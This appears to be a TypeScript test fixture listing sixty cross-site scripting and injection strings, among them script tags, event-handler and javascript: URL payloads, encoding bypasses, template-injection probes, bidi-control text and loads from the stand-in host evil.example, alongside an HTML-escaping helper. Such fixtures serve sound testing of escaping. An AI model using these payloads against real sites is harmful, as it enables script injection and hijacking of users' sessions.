const run = 'alert(1)';

/** Sixty texts that would run, break out or disturb where a page forgot that text is text. */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</bdi></td></tr></table><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `"><img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src="data:image/svg+xml,<svg onload=${run}>">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="x">`,
  `<math><mtext><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="javascript:${run}"><button>x`,
  `<button form=f formaction="javascript:${run}">x`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#115;cript:${run}">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<p style="background:url(//evil.example)">x`,
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `\` onmouseover=${run} x=\``,
  `" autofocus onfocus="${run}`,
  `javascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `{n, plural, other {<b>x</b>}} {place}`,
  `'{' <b>{0}</b> '}' {{7*7}} #{7*7}`,
  '${7*7} `${' + run + '}` <%= 7*7 %> {% x %}',
  `\u202Etxt.exe\u202C \u2066\u2067\u2069 \u200F<b>x</b>`,
  `a\u0301\u0489\u200B\u200D\uFEFF<u>\u0336x</u>`,
  `<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

/** As it stands in a page when it is nothing but text. */
export function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
}

/** The texts side by side, no line longer than a name may be. */
export function inLines(texts: readonly string[], most: number): string[] {
  const lines: string[] = [];
  for (const text of texts) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + text.length + 1 <= most)
      lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}
